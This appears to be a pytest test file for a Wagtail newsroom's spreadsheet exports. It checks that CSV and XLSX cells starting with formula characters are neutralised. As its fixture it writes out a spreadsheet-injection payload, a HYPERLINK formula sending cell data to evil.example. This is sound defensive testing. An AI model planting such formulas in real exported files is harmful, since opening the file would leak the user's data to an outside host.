"""Whatever somebody writes, no cell of what the desk exports is run by a spreadsheet."""

import csv
from collections.abc import Iterator
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from caspian.newsroom.accounts import give_account
from caspian.newsroom.desk.spreadsheets import defused
from caspian.newsroom.models import Article, User
from tests.cast import Cast
from tests.newsroom.desk.conftest import Desk

STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA = 'HYPERLINK("https://evil.example/?x="&A1,"More")'


@pytest.fixture
def administrator(cast: Cast, desk: Desk) -> Client:
    """Return the desk of who may export everything, where hostile hands have written."""
    give_account("root", role="administrator")
    root = User.objects.get(username="root")
    root.first_name, root.last_name = f"={FORMULA}", "Root"
    root.save()
    for start in STARTS:
        article = cast.draft("A ferry", slug=f"ferry-{ord(start)}")
        article.title = f"{start}{FORMULA}"
        article.save_revision(user=root, log_action=True).publish(user=root, log_action=True)
        Article.objects.filter(pk=article.pk).update(locked=True, locked_by=root)
    return desk(root)


def exports() -> Iterator[str]:
    """Yield the address of each screen of the desk that exports."""
    (resolver,) = (
        one for one in get_resolver().url_patterns
        if isinstance(one, URLResolver) and str(one.pattern) == "desk/"
    )  # fmt: skip
    yield from _below(resolver, "/")


def _below(resolver: URLResolver, before: str) -> Iterator[str]:
    for one in resolver.url_patterns:
        path = f"{before}{resolver.pattern}"
        if isinstance(one, URLResolver):
            yield from _below(one, path)
        elif isinstance(one, URLPattern) and not one.pattern.converters:
            view = getattr(one.callback, "view_class", None)
            if view and issubclass(view, SpreadsheetExportMixin):
                yield f"{path}{one.pattern}"


def cells(client: Client, address: str) -> list[Any]:
    """Return all cells below the headings of both kinds of file; none where nothing is exported."""
    found: list[Any] = []
    for kind in ("csv", "xlsx"):
        answer = client.get(f"{address}?export={kind}")
        if answer.status_code == 200 and "attachment" in answer.get("Content-Disposition", ""):
            found += _of_csv(answer) if kind == "csv" else _of_xlsx(answer)
    return found


def _of_csv(answer: Any) -> list[Any]:
    text = b"".join(answer).decode()
    return [cell for row in list(csv.reader(StringIO(text, newline="")))[1:] for cell in row]


def _of_xlsx(answer: Any) -> list[Any]:
    sheet = load_workbook(BytesIO(b"".join(answer))).worksheets[0]
    every = [cell for row in list(sheet.iter_rows())[1:] for cell in row]
    assert {cell.data_type for cell in every} <= {"s", "n", "d", "b", "inlineStr"}
    return [cell.value for cell in every]


def running(found: list[Any]) -> list[str]:
    """Return the cells that a spreadsheet runs."""
    return [cell for cell in found if isinstance(cell, str) and cell.startswith(STARTS)]


def test_no_cell_of_any_export_is_run(administrator: Client) -> None:
    addresses = list(exports())
    assert "/desk/reports/aging-pages/" in addresses
    found = {address: cells(administrator, address) for address in addresses}
    assert {address: running(held) for address, held in found.items() if running(held)} == {}
    every = [str(cell) for held in found.values() for cell in held]
    for start in "=+-@":
        assert f"'{start}{FORMULA}" in every
    assert f"'={FORMULA} Root" in every, "who did it, in the log"


def test_the_control_as_wagtail_writes_them_is_run(
    administrator: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    safe: Any = SpreadsheetExportMixin.preprocess_field_value
    (unsafe,) = (cell.cell_contents for cell in safe.__closure__ if callable(cell.cell_contents))
    monkeypatch.setattr(SpreadsheetExportMixin, "preprocess_field_value", unsafe)
    assert running(cells(administrator, "/desk/reports/aging-pages/"))


@given(st.text(max_size=4), st.sampled_from([*STARTS, "＝", "＋", "－", "＠", "\n"]), st.text())
def test_no_text_begins_a_formula(before: str, start: str, after: str) -> None:
    """Not behind blanks and signs that show nothing either, nor with full-width signs."""
    shown = str(defused(f"{start}{after}"))
    assert shown == f"'{start}{after}"
    if not start.isspace():
        blank = "".join(sign for sign in before if sign.isspace()) + "\u200b\ufeff "
        assert str(defused(f"{blank}{start}{after}")).startswith("'")


@pytest.mark.parametrize("value", ["", "A ferry", "5 - 3", "’tis", "—", "№ 1", -5, 0, 1.5, None])
def test_what_is_no_formula_stays_as_it_is(value: Any) -> None:
    assert defused(value) == value
